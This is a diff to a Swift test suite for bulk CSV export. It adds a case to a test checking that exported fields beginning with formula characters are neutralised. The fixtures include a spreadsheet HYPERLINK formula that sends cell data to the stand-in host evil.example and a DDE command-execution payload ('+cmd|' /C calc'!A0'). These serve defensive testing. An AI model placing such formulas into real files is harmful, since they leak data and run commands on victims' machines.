@@ -163,7 +163,8 @@ struct BulkExportTests {
             let link = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
             _ = try await s.parties.create(tenant: t, PartyInput(kind: .organization, name: link, note: "+cmd|' /C calc'!A0",
                                                                  properties: ["sum": .string("@SUM(1+1)"), "dash": .string("-1"),
-                                                                              "plain": .string("'quoted")]), context: .test)
+                                                                              "plain": .string("'quoted"), "own": .string("'=already")]),
+                                           context: .test)
             _ = try await s.parties.create(tenant: t, PartyInput(kind: .person, firstName: "-Ann", email: "-ann@farm.example"), context: .test)
             let plain = try await Self.text(s.exports.exportParties(tenant: t, PartiesExportOptions(format: .csv), context: .test))
             #expect(plain.contains("\"" + link.replacingOccurrences(of: "\"", with: "\"\"") + "\""), "as stored, unless asked")
@@ -174,7 +175,7 @@ struct BulkExportTests {
                 let text = field.hasPrefix("\"") ? field.dropFirst() : field
                 #expect(!(text.first.map { "=+-@".contains($0) } ?? false), "\(field) starts a formula")
             }
-            #expect(safe.contains("'-Ann") && safe.contains("'@SUM(1+1)") && safe.contains(",'quoted"), "\(safe)")
+            #expect(safe.contains("'-Ann") && safe.contains("'@SUM(1+1)") && safe.contains(",'quoted") && safe.contains("''=already"), "\(safe)")
             let rows = try Self.importRows(Array(safe.utf8), format: .csv)
             #expect(rows.allSatisfy { $0.problems.isEmpty })
             let copy = try await rt.makeTenant().slug
